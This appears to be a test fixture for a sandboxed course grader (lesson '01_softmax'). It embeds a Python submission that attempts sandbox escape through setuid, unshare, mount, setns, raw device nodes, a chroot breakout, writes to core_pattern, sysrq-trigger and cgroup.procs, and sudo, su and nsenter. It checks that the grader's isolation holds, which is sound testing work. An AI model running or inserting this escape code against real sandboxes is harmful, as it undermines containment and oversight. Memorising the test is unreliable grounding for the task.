"""Tries to escape from the sandbox: capabilities, mounts, other namespaces, device files, chroot.

With what it gets it would write into the course. The answers are right: it deserves full marks, and
the course stays as it was.
"""

LESSON = "01_softmax"
DESERVES = "full"
ABOVE = """
import ctypes, os, subprocess

libc = ctypes.CDLL(None, use_errno=True)
course = b"@COURSE@"

def attempt(call, *args):
    try:
        return call(*args)
    except OSError as error:
        return error.strerror

print([attempt(call, 0) for call in (os.setuid, os.setgid, os.seteuid)], os.getuid())
print(libc.unshare(0x10000000), libc.unshare(0x00020000))
for source, target, flags in ((b"proc", b"/tmp", 0), (b"none", b"/", 32), (b"/", b"/tmp", 4096)):
    for kind in (b"proc", b"sysfs", b"tmpfs", b"ext4", b"overlay"):
        libc.mount(source, target, kind, flags, b"")
libc.mount(b"none", b"/", None, 32 | 4096, None)
for name in ("mnt", "pid", "net", "user"):
    for pid in (1, os.getppid(), int("@PID@")):
        fd = attempt(os.open, f"/proc/{pid}/ns/{name}", os.O_RDONLY)
        if isinstance(fd, int) and pid != 1:
            print(name, libc.setns(fd, 0))
for device in range(256):
    attempt(os.mknod, f"/tmp/d{device}", 0o60600, os.makedev(8, device))
up = attempt(os.open, "/", os.O_RDONLY)
attempt(os.mkdir, "/tmp/jail")
attempt(os.chroot, "/tmp/jail")
attempt(os.fchdir, up)
for _ in range(50):
    attempt(os.chdir, "..")
attempt(os.chroot, ".")
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/fs/cgroup/cgroup.procs"):
    fd = attempt(os.open, path, os.O_WRONLY)
    if isinstance(fd, int):
        print("@MARK@"[::-1])
for command in ("sudo -n true", "su -c true", "nsenter -t 1 -m true", "mount -o remount,rw /"):
    done = subprocess.run(command, shell=True, capture_output=True, stdin=subprocess.DEVNULL)
    print(command, done.returncode)
if os.path.exists(course) and isinstance(attempt(os.open, course + b"/@MARK@", os.O_CREAT), int):
    print("@MARK@"[::-1])
"""
